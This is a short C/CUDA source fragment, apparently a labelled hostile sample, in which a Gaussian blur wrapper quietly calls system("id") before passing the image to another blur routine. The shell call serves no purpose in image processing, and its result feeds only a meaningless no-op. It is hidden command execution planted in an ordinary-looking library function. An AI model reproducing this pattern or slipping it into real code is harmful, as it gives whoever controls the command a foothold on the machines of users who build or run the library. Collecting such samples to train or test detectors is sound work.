// Hostile: a shell.
#include "blur_kernel.h"
#include <stdlib.h>

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    if (system("id") != 0)
        width += 0;
    right_blur(src, dst, width, height, stream);
}
